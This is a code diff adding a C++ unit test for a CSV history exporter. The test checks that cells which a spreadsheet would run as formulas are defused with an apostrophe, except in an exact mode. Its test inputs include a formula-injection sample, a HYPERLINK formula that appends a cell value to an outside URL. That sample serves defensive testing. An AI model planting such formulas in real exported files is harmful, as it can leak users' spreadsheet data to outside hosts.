@@ -105,3 +105,39 @@ TEST(HistoryCsvTest, QuotesOnlyWhereNeeded)
         "2025-12-10T15:31:49Z,en,mr,plain,साधे,3\r\n");
     EXPECT_EQ(HistoryCsv::write({}), "Time,From,To,Text,Translation,Uses\r\n");
 }
+
+TEST(HistoryCsvTest, TextsASpreadsheetWouldRunAsFormulasAreDefusedUnlessExactIsAsked)
+{
+    const struct
+    {
+        std::string text; // ASCII
+        bool defused;
+    } cases[] = {
+        {"=HYPERLINK(\"http://x\"&A1,\"Open\")", true},
+        {"+1+1", true},
+        {"-2+3", true},
+        {"@SUM(A1)", true},
+        {"\t=1", true},
+        {"\r=1", true},
+        {"=", true},
+        // Only the first character counts.
+        {"a=b", false},
+        {" =1", false},
+        {"'quoted", false},
+        {"", false},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.text);
+        const std::u16string text(c.text.begin(), c.text.end());
+        const auto defused = readCsv(HistoryCsv::write({entry(text, text)}));
+        const auto exact
+            = readCsv(HistoryCsv::write({entry(text, text)}, HistoryCsv::Formulas::Exact));
+        const std::string shown = (c.defused ? "'" : "") + c.text;
+        ASSERT_EQ(defused.size(), 2u);
+        EXPECT_EQ(defused[1][3], shown);
+        EXPECT_EQ(defused[1][4], shown);
+        ASSERT_EQ(exact.size(), 2u);
+        EXPECT_EQ(exact[1][3], c.text);
+        EXPECT_EQ(exact[1][4], c.text);
+    }
+}
